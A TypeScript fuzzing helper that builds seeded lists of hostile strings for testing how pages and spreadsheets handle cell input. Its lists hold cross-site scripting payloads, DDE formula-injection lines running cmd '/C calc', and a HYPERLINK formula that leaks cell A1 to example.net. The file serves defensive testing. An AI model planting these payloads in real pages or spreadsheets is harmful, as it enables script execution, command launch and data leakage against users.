/** Texts as somebody might put them into a cell to see them run, in a page or in a worksheet. */
const MARKUP = [
  "<script>window.planted='ran'</script>",
  `<img src=x onerror="window.planted='ran'">`,
  "<svg onload=window.planted='ran'>",
  `"><b onmouseover=window.planted='ran'>`,
  `<a href="javascript:window.planted='ran'">price</a>`,
  "javascript:window.planted='ran'",
  `<iframe srcdoc="<script>parent.planted='ran'</script>"></iframe>`,
  "</option></select><script>window.planted='ran'</script>",
  "</text></svg><script>window.planted='ran'</script>",
  "<style>*{display:none}</style>",
  "${window.planted='ran'}",
  "{{constructor.constructor(\"window.planted='ran'\")()}}",
  "&lt;script&gt;",
  "<!--",
  "]]>",
  "&amp;#60;",
];
const FORMULAS = [
  "=cmd|' /C calc'!A0",
  "+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)",
  "=1+1",
  '=HYPERLINK("https://example.net/?"&A1,"price")',
  '=WEBSERVICE("https://example.net/")',
  "{=1+1}",
  "'=1+1",
  "\t=1+1",
  " =1+1",
  "\uff1d1+1",
  "=PROBE.VERSION()",
  "_xldudf_PROBE_VERSION()",
];
const LOOKALIKES = ["1/500", "1e5", "0x10", "TRUE", "false", "#N/A", "#VALUE!", "12 March", "007", "-", "'", "''", '"', "\\", "_x000D_", "constructor", "__proto__", "toString"];
const CONTROLS = ["\u0001", "\u000b", "\u001f", "\u007f", "\u0085", "\u200f", "\u202e", "\u2066", "\u2028", "\ufeff", "\ufffe", "\ud83d", "e\u0301\u0327", "\n", "\r\n"];

/**
 * Hostile texts, the same ones for the same seed: each piece once alone, then pieces joined and repeated.
 *
 * @param seed   any whole number
 * @param count  how many; at least the number of pieces
 */
export function hostileTexts(seed: number, count: number): string[] {
  const draw = drawing(seed);
  const pieces = [...MARKUP, ...FORMULAS, ...LOOKALIKES, ...CONTROLS.map((sign) => `pile${sign}cap`)];
  const pick = (of: readonly string[]): string => of[Math.floor(draw() * of.length)]!;
  const long = [pick(MARKUP).repeat(500).slice(0, 12_000), `=${"1+".repeat(4000)}1`, "W".repeat(32_000)];
  const texts = [...pieces, ...long];
  while (texts.length < count) {
    const joined = [pick([...FORMULAS, ""]), pick(MARKUP), pick(CONTROLS), pick([...LOOKALIKES, ...MARKUP])];
    texts.push(draw() < 0.5 ? joined.join("") : joined.reverse().join(pick([" ", "\"", "'", ""])));
  }
  return texts.slice(0, Math.max(count, pieces.length));
}

/** Uniform numbers below 1, by a multiplicative congruential generator: good enough to choose texts. */
function drawing(seed: number): () => number {
  let state = (Math.abs(seed) % 2147483646) + 1;
  return () => (state = (state * 48271) % 2147483647) / 2147483647;
}
